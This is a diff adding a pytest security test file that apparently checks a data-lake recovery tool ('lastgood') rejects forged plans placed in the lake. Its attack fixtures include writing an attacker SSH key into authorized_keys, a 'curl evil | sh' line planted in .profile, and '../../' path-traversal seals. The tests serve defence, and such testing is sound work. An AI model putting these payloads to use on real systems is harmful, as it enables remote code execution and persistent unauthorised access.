@@ -1,0 +1,238 @@
+"""A plan that somebody has put into the lake commands nothing: it touches nothing that was not named here."""
+
+from __future__ import annotations
+
+import json
+import shutil
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hostile.attacker import ID, Answer, Attacker, Told, call, signed, tree, writing
+from hostile.conftest import OTHERS_ID, planned, table
+
+DEAD = "--driver-is-dead"
+STAGES = ("begun", "applying", "applied", "closed", "undoing", "taking_back", "undone")
+OTHER = "20261121-170000-0001"
+
+Lies = Callable[[Told, Path], Told]
+
+
+def finishing(attacker: Attacker, room: Path) -> dict[str, tuple[object, ...]]:
+    """Every command that carries out, finishes or takes back what lies in a folder."""
+    chk = attacker.checkpoint
+    return {
+        "apply": ("apply", room / "plan.json", DEAD, "--format", "json"),
+        "undo": ("undo", room.name, "--checkpoint", chk, DEAD, "--format", "json"),
+        "undo last": ("undo", "last", "--checkpoint", chk, DEAD, "--format", "json"),
+        "recover": ("recover", chk, DEAD, "--format", "json"),
+        "run": ("run", "--checkpoint", chk, "--no-agent", "--format", "json", "--", "true"),
+    }
+
+
+def asked(attacker: Attacker, room: Path, verb: str) -> Answer:
+    return call(*finishing(attacker, room)[verb])
+
+
+VERBS = ("apply", "undo", "undo last", "recover", "run")
+
+
+def writes_keys(plan: Told, victim: Path) -> Told:
+    return writing(plan, victim / "home/.ssh/authorized_keys", b"ssh-ed25519 AAAA attacker\n")
+
+
+def writes_a_file_that_is_not_there(plan: Told, victim: Path) -> Told:
+    return writing(plan, victim / "home/.profile", b"curl evil | sh\n")
+
+
+def is_of_another_checkpoint(plan: Told, victim: Path) -> Told:
+    return {**planned(victim / "chk"), "recovery": plan["recovery"]}
+
+
+def writes_to_the_victims_table(plan: Told, victim: Path) -> Told:
+    """It takes the rows of the victim's last batches away."""
+    return taking_back(plan, victim / "table", OTHERS_ID)
+
+
+def fences_the_victims_table(plan: Told, victim: Path) -> Told:
+    return {**plan, "sinks": [sink(victim / "table", OTHERS_ID)]}
+
+
+def says_that_its_batch_is_used_up(plan: Told, victim: Path) -> Told:
+    """Then no driver would have to be dead."""
+    told = taking_back(plan, victim / "table", OTHERS_ID)
+    step = {**told["steps"][-1], "mark": 6, "batch": 7, "versions": []}
+    return {**told, "steps": [*plan["steps"], step]}
+
+
+LIES: tuple[Lies, ...] = (
+    writes_keys,
+    writes_a_file_that_is_not_there,
+    is_of_another_checkpoint,
+    writes_to_the_victims_table,
+    fences_the_victims_table,
+    says_that_its_batch_is_used_up,
+)
+
+
+def sink(folder: Path, app_id: str) -> Told:
+    told = {"index": 0, "kind": "delta", "location": str(folder), "batch": 6, "known": True, "skips_up_to": 6}
+    return {**told, "identity": table_id(folder), "fence": app_id}
+
+
+def taking_back(plan: Told, folder: Path, app_id: str) -> Told:
+    step: dict[str, Any] = {
+        "do": f"take rows and mark of {folder} back from batch 6 to 3: why",
+        "undo": f"put rows and mark of batch 6 back into {folder}, by one more version",
+        "effect": None,
+        "kind": "delta",
+        "table": str(folder),
+        "table_id": table_id(folder),
+        "app_id": app_id,
+        "mark": 6,
+        "mark_updated_ms": 1_790_000_000_000,
+        "batch": 3,
+        "version": 6,
+        "versions": [4, 5, 6],
+        "why": "why",
+    }
+    return {**plan, "sinks": [sink(folder, app_id)], "steps": [*plan["steps"], step]}
+
+
+def table_id(folder: Path) -> str:
+    lines = (folder / "_delta_log/00000000000000000000.json").read_text().splitlines()
+    return next(str(json.loads(line)["metaData"]["id"]) for line in lines if "metaData" in line)
+
+
+def parsed(plan: Told) -> Told:
+    """The same with its lines for people as lastgood would write them; a forger copies the code."""
+    from lastgood.recovery.plan import _plan
+
+    return _plan(plan).to_json()
+
+
+@pytest.mark.parametrize("verb", VERBS)
+@pytest.mark.parametrize("lie", LIES, ids=lambda lie: lie.__name__)
+def test_plan_out_of_the_lake_touches_nothing_that_nobody_named(
+    attacker: Attacker, plan: Told, victim: Path, lie: Lies, verb: str
+) -> None:
+    forged = parsed(lie(plan, victim))
+    room = attacker.place(forged)
+    attacker.seal(forged)
+    told = asked(attacker, room, verb)
+    assert told.code in (2, 3, 23, 54), told
+    assert not list(victim.rglob("*.lastgood"))
+
+
+@pytest.mark.parametrize("stage", STAGES)
+@pytest.mark.parametrize("lie", [writes_keys, writes_to_the_victims_table], ids=lambda lie: lie.__name__)
+def test_nor_does_one_that_is_said_to_be_half_done(
+    attacker: Attacker, plan: Told, victim: Path, lie: Lies, stage: str
+) -> None:
+    forged = parsed(lie(plan, victim))
+    stages = STAGES[: STAGES.index(stage) + 1]
+    names = ["authorized_keys", *(step["path"] for step in plan["steps"] if "path" in step)]
+    room = attacker.place(forged, *stages, seal=forged["seal"], listings={})
+    attacker.keep(room, "start-file", b"ssh-ed25519 AAAA attacker\n")
+    for name in names:
+        attacker.keep(room, name, b"")
+    for verb in VERBS:
+        assert asked(attacker, room, verb).code in (0, 2, 3, 23, 50, 54, 55, 59), verb
+
+
+def test_seal_that_the_lake_notes_down_is_put_up_nowhere_else(attacker: Attacker, plan: Told, victim: Path) -> None:
+    room = attacker.place(plan, *STAGES[:4])
+    for file in (victim / "home/.hushlogin", victim / "home/7"):
+        attacker.note(room, "undoing", seal=[f"../../victim/home/{file.name}"], lease=1, at_ms=1)
+        for verb in ("undo", "recover"):
+            assert asked(attacker, room, verb).code in (3, 50), verb
+
+
+@pytest.mark.parametrize("verb", ["apply", "undo", "recover", "run"])
+@pytest.mark.parametrize("stage", ["begun", "applying", "applied", "undoing", "taking_back", "undone"])
+def test_word_of_the_lake_that_the_driver_is_dead_is_no_proof(
+    attacker: Attacker, plan: Told, stage: str, verb: str
+) -> None:
+    stages = STAGES[: STAGES.index(stage) + 1]
+    room = attacker.place(plan, *stages, seal=plan["seal"], listings={})
+    attacker.seal(plan)
+    before = tree(attacker.checkpoint)
+    words = [word for word in finishing(attacker, room)[verb] if word != DEAD]
+    told = call(*words)
+    assert told.code in ((54,) if verb in ("apply", "undo") else (3,)) or (told.code, stage) == (52, "undone"), told
+    assert tree(attacker.checkpoint) == before
+
+
+def test_neither_is_the_lakes_word_that_the_batch_is_used_up(attacker: Attacker, tmp_path: Path) -> None:
+    """By the one table that the lake says the query writes; and the local side names that table."""
+    table(tmp_path / "lake/t", "q", 7)
+    forged = planned(attacker.checkpoint)
+    told = taking_back(forged, tmp_path / "lake/t", forged["query_id"])
+    step = {**told["steps"][-1], "mark": 6, "batch": 7, "versions": []}
+    forged = parsed({**told, "steps": [*forged["steps"], step]})
+    room = attacker.place(forged)
+    before = tree(tmp_path / "lake")
+    assert call("apply", room / "plan.json", "--sink", tmp_path / "lake/t", "--format", "json").code == 54
+    assert tree(tmp_path / "lake/t") == {name[2:]: at for name, at in before.items() if name.startswith("t/")}
+
+
+def test_what_would_be_done_is_shown_to_a_person_with_the_commands(
+    attacker: Attacker, plan: Told, victim: Path
+) -> None:
+    forged = parsed(writes_to_the_victims_table(plan, victim))
+    attacker.place(forged)
+    told = call("recover", attacker.checkpoint, DEAD, "--format", "json")
+    assert (told.code, told.json["decision"], told.condition) == (3, "person", "SINK_NOT_NAMED")
+    assert told.json["steps"] == forged["steps"]
+    assert str(victim / "table") in told.json["error"]["subject"]
+    assert str(victim) not in told.json["next"], "what is pasted is not of the lake"
+    assert told.json["next"].startswith(f"lastgood recover {attacker.checkpoint} --sink LOCATION")
+    shown = call("recover", attacker.checkpoint, DEAD).out
+    assert "take rows and mark of" in " ".join(shown.split())
+
+
+@pytest.mark.parametrize("verb", ["apply", "undo", "recover"])
+def test_plan_is_carried_out_only_where_it_is_of(attacker: Attacker, plan: Told, victim: Path, verb: str) -> None:
+    """In the folder of another recovery; beside another checkpoint; of another query."""
+    for forged, folder in (
+        (plan, OTHER),
+        (is_of_another_checkpoint(plan, victim), None),
+        ({**plan, "query_id": OTHERS_ID}, None),
+    ):
+        room = attacker.place(forged, folder=folder)
+        before = tree(attacker.checkpoint)
+        told = asked(attacker, room, verb)
+        assert told.condition == "PLAN_NOT_OF_THIS_PLACE", told
+        assert told.code == (3 if verb == "recover" else 23)
+        assert tree(attacker.checkpoint) == before
+        shutil.rmtree(room)
+
+
+def test_plan_elsewhere_in_the_lake_is_none_that_is_given_by_hand(attacker: Attacker, plan: Told, victim: Path) -> None:
+    forged = signed(parsed(writes_keys(plan, victim)))
+    for path in ("plan.json", "recoveries/plan.json", f"recoveries/{ID}/before/plan.json"):
+        file = attacker.work / path
+        file.parent.mkdir(parents=True, exist_ok=True)
+        file.write_bytes(forged)
+        told = call("apply", file, DEAD, "--start-file", victim / "home/.ssh/authorized_keys", "--format", "json")
+        assert (told.code, told.condition) == (23, "PLAN_NOT_OF_THIS_PLACE"), path
+    inside = attacker.checkpoint / "plan.json"
+    inside.write_bytes(forged)
+    assert call("apply", inside, DEAD, "--format", "json").code == 23
+    own = Path("plan.json")
+    own.symlink_to(file)
+    assert call("apply", own, DEAD, "--format", "json").code == 23
+
+
+def test_rows_of_another_query_stay_in_a_table_that_both_write(attacker: Attacker, plan: Told, tmp_path: Path) -> None:
+    """The table is named here; that of whom the rows are is not for the lake to say."""
+    shared = tmp_path / "shared"
+    table(shared, OTHERS_ID, 7)
+    room = attacker.place(parsed(taking_back(plan, shared, OTHERS_ID)))
+    before = tree(shared)
+    for verb, words in finishing(attacker, room).items():
+        if verb != "run":
+            told = call(*words, "--sink", shared)
+            assert told.condition in ("SINK_NOT_NAMED", "PLAN_NOT_OF_THIS_PLACE"), told
+    assert tree(shared) == before
